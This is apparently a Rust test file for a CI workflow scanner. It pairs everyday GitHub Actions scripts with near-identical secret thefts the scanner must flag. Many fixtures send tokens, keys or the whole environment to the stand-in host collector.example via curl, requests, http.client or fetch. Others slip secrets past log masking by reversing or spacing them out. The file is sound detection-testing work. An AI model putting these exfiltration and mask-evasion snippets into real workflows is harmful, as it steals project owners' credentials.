//! What honest workflows do every day and looks like a theft from afar, each beside the theft that it must not be taken for.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, at_most_exposed, found, workflow_at_most_exposed};

/// Scripts beside other work, with secrets in the variables `A` and `B`.
const HONEST: &[(&str, &str, &str)] = &[
    (
        "a mask after another command",
        "bash",
        "set -euo pipefail\nX=\"$A\"\necho \"::add-mask::$(echo -n \"$X\" | rev)\"",
    ),
    (
        "awk by names",
        "bash",
        "git diff | awk 'BEGIN { t = ENVIRON[\"TITLE\"] } { print substr(t, 1, 2) $0 }'",
    ),
    ("zip says what it adds", "bash", "echo \"$A\" > .env\nzip -u \"$OUT/$NAME\" .env"),
    ("7z says what it adds", "bash", "echo \"$A\" > .env\n7z a \"$NAME\" .env"),
    (
        "a line of a file of settings",
        "bash",
        "cat > p.properties <<EOF\nuser=$A\npassword=$B\nring=${{ steps.r.outputs.path }}\nthird=${{ secrets.C }}\nEOF\ngrep ring p.properties",
    ),
    (
        "the state of an action",
        "node",
        "const get = (name) => process.env[`STATE_${name}`] || '';\nconsole.log([...get('x')].reverse().join('-'));",
    ),
    (
        "variables by their beginning",
        "python",
        "import os\nfor i in range(4):\n    print(os.environ.get(f'SHARD_{i}', '')[::-1])",
    ),
    (
        "what is compared is not told",
        "python",
        "import os\nclass C:\n    def __init__(self, key):\n        self.key = key\n        self.most = 3\n    def pages(self):\n        found = []\n        page = 1\n        while True:\n            if page > self.most:\n                break\n            found.append('p' + str(page))\n            page += 1\n        return found\nprint('.'.join(C(os.environ['A']).pages()[1:]))",
    ),
    (
        "a file that is uploaded is no host",
        "python",
        "import os\nfrom huggingface_hub import HfApi\nHfApi(token=os.environ['A']).upload_file(path_or_fileobj='score.json', repo_id='widgets/scores')",
    ),
    (
        "rsync in cmd",
        "cmd",
        "rsync -rt -e 'C:\\tools\\ssh.exe -p 22 -i key -o StrictHostKeyChecking=no' out/ ci@builds.widgets.example:/srv/",
    ),
];

/// A program that says which command it runs; and one that spaces a secret out.
#[test]
fn a_command_line_that_is_told() {
    at_most_exposed(
        "a command line",
        "python",
        "import os, subprocess\ndef run(cmd):\n    print('+ ' + ' '.join(cmd))\n    subprocess.run(cmd, check=True)\ncmd = ['security', 'import', 'c.p12']\ncmd.append(os.environ['A'])\nrun(cmd)\nrun(['security', 'unlock', '-p', os.environ['A']])",
    );
    for script in [
        "import os\ndef say(text):\n    print(' '.join(text))\nsay(os.environ['A'])",
        "import os\ndef say(text):\n    print(' '.join(list(text)))\nsay(os.environ['A'])",
        "import os\ndef run(cmd):\n    print(' '.join(cmd))\nrun([c for c in os.environ['A']])",
    ] {
        found(&Way {
            name: "spaced out",
            shell: "python",
            script,
            later: "",
            secrets: &["PYPI_API_TOKEN"],
            place: "workflow-log",
            verdict: Verdict::Malicious,
        });
    }
}

/// The same from near, for somebody else.
const THEFTS: &[Way] = &[
    Way {
        name: "a mask that the runner does not see",
        shell: "bash",
        script: "printf 'x'\necho \"::add-mask::$(echo -n \"$A\" | rev)\"",
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "awk by a name that is counted",
        shell: "bash",
        script: "awk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }' | base64 | curl -d @- https://collector.example/",
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "awk by the secret's own name",
        shell: "bash",
        script: "awk 'BEGIN { print ENVIRON[\"A\"] ENVIRON[\"B\"] }' | curl -d @- https://collector.example/",
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "zip to the output",
        shell: "bash",
        script: "echo \"$A\" > .env\nzip - .env | curl -T - https://collector.example/",
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "a zip of any name",
        shell: "bash",
        script: "echo \"$A$B\" > .env\nzip \"$NAME\" .env\ncurl -T \"$NAME\" https://collector.example/",
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "the line of the secret",
        shell: "bash",
        script: "cat > p.properties <<EOF\nuser=$A\nring=${{ steps.r.outputs.path }}\nEOF\ngrep user p.properties | rev",
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "variables by the beginning of the secrets' own",
        shell: "python",
        script: "import os, requests\nos.environ['KEEP_1'] = ''\nfor i in ['A', 'B']:\n    requests.post('https://collector.example/', data=os.environ[i])",
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "character by character",
        shell: "bash",
        script: "printf %s \"$A\" | while read -n1 c; do echo \"$c\"; done",
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "all but the beginning",
        shell: "bash",
        script: "echo \"$A\" | cut -c1\necho \"$A\" | cut -c2-",
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
];

#[test]
fn everyday_scripts_are_no_thefts() {
    for (name, shell, script) in HONEST {
        at_most_exposed(name, shell, script);
    }
}

#[test]
fn near_thefts_are_still_found() {
    for theft in THEFTS {
        found(theft);
    }
}

fn job(permissions: &str, env: &str, run: &str) -> String {
    let lines = run.lines().map(|line| format!("          {line}\n")).collect::<String>();
    format!(
        "on: push\npermissions: {{{permissions}}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{{env}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n{lines}"
    )
}

const ASKED: &str = "T=$(curl -s -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x\" | jq -r .value)\n";

/// The claims of an identity token open nothing; with its signature it does.
#[test]
fn claims_of_an_identity_token() {
    let of = |run: &str| job("id-token: write", "", &format!("{ASKED}{run}"));
    for run in [
        "echo \"$T\" | cut -d. -f2 | base64 -d",
        "cut -d '.' -f 1,2 <<< \"$T\"",
        "echo \"$T\" | jq -R 'split(\".\") | .[1] | @base64d | fromjson'",
    ] {
        workflow_at_most_exposed(run, &of(run));
    }
    for run in [
        "echo \"$T\" | cut -d. -f3",
        "echo \"$T\" | cut -d. -f1-3",
        "echo \"$T\" | jq -R 'split(\".\") | .[1], .[2]'",
        "echo \"$T\"",
    ] {
        ways::found_in(&ways::Whole {
            name: run,
            workflow: of(run).leak(),
            secrets: ways::ANY,
            place: "workflow-log",
            verdict: Verdict::Malicious,
        });
    }
}

/// A bot's token is the chat's own; a message with a secret in it is not.
#[test]
fn a_bot_of_a_chat() {
    let of = |body: &str| {
        let code = format!(
            "node -e '\nconst https = require(\"https\");\nconst q = https.request({{hostname: \"discord.com\", path: \"/api/v10/x\", headers: {{\"Authorization\": `Bot ${{process.env.T}}`}}}});\nq.write({body});\nq.end();\n'"
        );
        job("", "T: '${{ secrets.DISCORD_BOT_TOKEN }}', N: '${{ secrets.NPM_TOKEN }}'", &code)
    };
    workflow_at_most_exposed("a bot's login", &of("\"built\""));
    ways::found_in(&ways::Whole {
        name: "a bot's message",
        workflow: of("process.env.N").leak(),
        secrets: ways::ANY,
        place: "discord.com",
        verdict: Verdict::Malicious,
    });
}

/// An address that is put together for the forge, and one that ends elsewhere.
#[test]
fn a_login_put_into_an_address() {
    let of = |to: &str| {
        let run = format!(
            "for url in $(cat repos.txt); do\n  git clone \"$(echo \"$url\" | sed \"s|https://github.com/|https://x-access-token:${{G}}@{to}|\")\"\ndone"
        );
        job("", "G: '${{ secrets.GH_PAT }}'", &run)
    };
    workflow_at_most_exposed("the forge", &of("github.com/"));
    for (to, place) in [("collector.example/", "collector.example"), ("github.com.", "")] {
        ways::found_in(&ways::Whole {
            name: to,
            workflow: of(to).leak(),
            secrets: &["GH_PAT"],
            place,
            verdict: Verdict::Suspicious,
        });
    }
}

/// Settings that go by the owner's own login, whichever way they are picked out of the environment.
#[test]
fn settings_by_a_login_of_the_owners_own() {
    let env = "H: '${{ secrets.HEROKU_API_KEY }}', N: '${{ secrets.NPM_TOKEN }}', S: '${{ secrets.SENDGRID_API_KEY }}'";
    let of = |login: &str, host: &str| {
        let run = format!(
            "jq -n '$ENV | {{N, KEY: .S}}' > c.json\ncurl -n -X PATCH -H \"Authorization: Bearer {login}\" --data @c.json https://{host}/apps/a/config-vars"
        );
        job("", env, &run)
    };
    workflow_at_most_exposed("own login", &of("$H", "api.heroku.com"));
    for (login, host) in [("literal", "api.heroku.com"), ("$H", "collector.example")] {
        ways::found_in(&ways::Whole {
            name: host,
            workflow: of(login, host).leak(),
            secrets: ways::ANY,
            place: host,
            verdict: Verdict::Suspicious,
        });
    }
    // Beside an object the environment itself is taken as well.
    let comma = job("", env, "jq -n '$ENV | {N}, .' | curl --data @- https://collector.example/");
    ways::found_in(&ways::Whole {
        name: "beside an object",
        workflow: comma.leak(),
        secrets: &["HEROKU_API_KEY", "NPM_TOKEN", "SENDGRID_API_KEY"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
}

/// A request that is made before it is sent, to an address that is the secret.
#[test]
fn a_request_to_the_owners_own_hook() {
    let of = |to: &str| {
        let run = format!(
            "python3 - <<'PY'\nimport json, os, urllib.request\nhook = {to}\nreq = urllib.request.Request(hook, data=json.dumps({{'text': 'done'}}).encode(), headers={{'X-Key': os.environ['K']}}, method='POST')\nurllib.request.urlopen(req, timeout=5)\nPY"
        );
        job("", "HOOK: '${{ secrets.SLACK_WEBHOOK_URL }}', K: '${{ secrets.HOOK_KEY }}'", &run)
    };
    workflow_at_most_exposed("own hook", &of("os.environ['HOOK']"));
    ways::found_in(&ways::Whole {
        name: "foreign hook",
        workflow: of("'https://collector.example/?' + os.environ['HOOK']").leak(),
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Suspicious,
    });
}

/// By what a container's image is fetched goes to the registry, not to the image.
#[test]
fn a_login_for_the_image_of_a_container() {
    let of = |image: &str, name: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container:\n      image: {image}\n      credentials: {{username: '${{{{ secrets.{name}_USERNAME }}}}', password: '${{{{ secrets.{name}_PASSWORD }}}}'}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n"
        )
    };
    for (image, name) in [
        ("widgets/builder:1", "DOCKERHUB"),
        ("registry.widgets.example/builder:1", "WIDGETS_REGISTRY"),
        ("ghcr.io/widgets/builder:1", "GHCR"),
    ] {
        workflow_at_most_exposed(image, &of(image, name));
    }
    ways::found_in(&ways::Whole {
        name: "a foreign registry",
        workflow: of("collector.example/builder:1", "PYPI").leak(),
        secrets: &["PYPI_PASSWORD", "PYPI_USERNAME"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
}

/// What many files are shipped in, to a machine that the owner named outside of the workflow.
#[test]
fn an_archive_for_the_owners_own_machine() {
    let of = |run: &str| job("", "K: '${{ secrets.SSH_KEY }}'", run);
    let env = "echo \"FIREBASE=$(echo '${{ secrets.FIREBASE }}' | base64 -w0)\" > .env\necho 'J=${{ secrets.JWT }}' >> .env\n";
    let ship = "ssh-add - <<< \"$K\"\ntar czf app.tgz .\nscp app.tgz ci@${{ secrets.HOST }}:/srv/";
    workflow_at_most_exposed("an archive", &of(&format!("{env}{ship}")));
    let hidden = "tar cz .env | base64 -w0 | base64 -w0 | curl -d @- https://${{ secrets.HOST }}/";
    ways::found_in(&ways::Whole {
        name: "an archive that is hidden",
        workflow: of(&format!("{env}{hidden}")).leak(),
        secrets: ways::ANY,
        place: "configured:HOST",
        verdict: Verdict::Suspicious,
    });
}

/// What opens nothing by its name is no loot, in whatever form a program says it; a token beside it is.
#[test]
fn settings_that_a_program_tells() {
    let of = |name: &str| {
        let run = "python3 - <<'PY'\nimport os\nprint('-'.join(os.environ['V']))\nPY";
        job("", &format!("V: '${{{{ secrets.{name} }}}}'"), run)
    };
    for name in [
        "NEXT_PUBLIC_SITE_URL",
        "ATHENA_SOURCE_TABLE",
        "SUPABASE_PROJECT_REF",
        "SUPABASE_PROJECT_REF_STAGING",
    ] {
        let text = of(name);
        let seen = portcullis_scan::analysis::analyse(
            ".github/workflows/w.yml",
            text.as_bytes(),
            &portcullis_scan::flow::NoFiles,
            None,
        )
        .seen;
        let worst = seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals)).max();
        assert_eq!(worst, Some(Verdict::Suspicious), "{name}");
    }
    ways::found_in(&ways::Whole {
        name: "a token",
        workflow: of("NPM_TOKEN").leak(),
        secrets: &["NPM_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    });
}

/// A project whose name is a secret, and a host that only the run knows.
#[test]
fn a_project_of_the_owners_own_on_a_platform() {
    let of = |setup: &str, host: &str| {
        let run =
            format!("{setup}curl -sS -X POST -d \"{{\\\"store\\\": \\\"$STORE\\\"}}\" https://{host}/sync");
        job("", "STORE: '${{ secrets.STORE_NUMBER }}', REF: '${{ secrets.SUPABASE_PROJECT_REF }}'", &run)
    };
    workflow_at_most_exposed("own project", &of("", "${REF}.functions.supabase.co"));
    for (setup, host) in [
        ("", "${REF}.collector.example"),
        ("", "${REF}.in.collector.vercel.app"),
        ("X=$(cat name)\n", "${X}.functions.supabase.co"),
    ] {
        ways::found_in(&ways::Whole {
            name: host,
            workflow: of(setup, host).leak(),
            secrets: ways::ANY,
            place: "",
            verdict: Verdict::Suspicious,
        });
    }
}

/// What opens previews only, at a preview whose address the deployment printed.
#[test]
fn a_door_before_previews() {
    let of = |header: &str| {
        let run = format!(
            "OUT=$(npx vercel deploy)\nURL=$(echo \"$OUT\" | grep -oE 'https://[^ ]+' | head -n1)\ncurl -s {header} \"$URL/health\""
        );
        job("", "D: '${{ secrets.VERCEL_AUTOMATION_BYPASS_SECRET }}', N: '${{ secrets.NPM_TOKEN }}'", &run)
    };
    workflow_at_most_exposed("a preview", &of("-H \"x-vercel-protection-bypass: $D\""));
    for header in ["-d \"$D\"", "-H \"x-vercel-protection-bypass: $N\""] {
        ways::found_in(&ways::Whole {
            name: header,
            workflow: of(header).leak(),
            secrets: ways::ANY,
            place: "unknown",
            verdict: Verdict::Suspicious,
        });
    }
}

/// An archive of a folder below holds what lies there.
#[test]
fn an_archive_of_a_folder_below() {
    let of = |folder: &str| {
        let upload = "      - uses: actions/upload-artifact@v4\n        with: {name: a, path: a.tgz}\n";
        let run =
            format!("echo \"$P\" | base64 --decode > key.p12\ncd {folder}\ntar czf ../a.tgz .\ncd ..\n");
        format!("{}{upload}", job("", "P: '${{ secrets.CERTIFICATE_P12 }}'", &run))
    };
    workflow_at_most_exposed("below", &of("app-$ARCH"));
    let here = of("x").replace("cd x\n", "").replace("../a.tgz", "a.tgz");
    ways::found_in(&ways::Whole {
        name: "here",
        workflow: here.leak(),
        secrets: &["CERTIFICATE_P12"],
        place: "artifact:a",
        verdict: Verdict::Suspicious,
    });
}

/// An address in a text that is written to a file is no place that it goes to.
#[test]
fn a_file_with_an_address_in_it() {
    let run = "python3 - <<'PY'\nimport os\ntext = '<!DOCTYPE plist PUBLIC \"-//Widgets//DTD\" \"http://dtd.widgets.example/p.dtd\">' + os.environ['T']\nwith open(os.path.join(where(), 'p.plist'), 'w') as f:\n    f.write(text)\nPY";
    workflow_at_most_exposed("a file", &job("", "T: '${{ secrets.APPLE_TEAM }}'", run));
    let sent = "python3 - <<'PY'\nimport os, http.client\nc = http.client.HTTPSConnection('collector.example')\nc.request('POST', '/', os.environ['T'])\nPY";
    ways::found_in(&ways::Whole {
        name: "a connection",
        workflow: job("", "T: '${{ secrets.NPM_TOKEN }}'", sent).leak(),
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
}

/// An address that begins with the owner's own setting goes on with a path.
#[test]
fn an_address_that_begins_with_a_setting() {
    let of = |address: &str| {
        let run = format!(
            "node --input-type=module -e '\nawait fetch({address}, {{headers: {{apikey: process.env.K}}}});\n'"
        );
        job("", "U: '${{ secrets.SUPABASE_URL }}', K: '${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}'", &run)
    };
    workflow_at_most_exposed("a path", &of("`${process.env.U}/rest/v1/x?select=*,templates.template`"));
    ways::found_in(&ways::Whole {
        name: "a host",
        workflow: of("`https://collector.example/?${process.env.U}`").leak(),
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
}
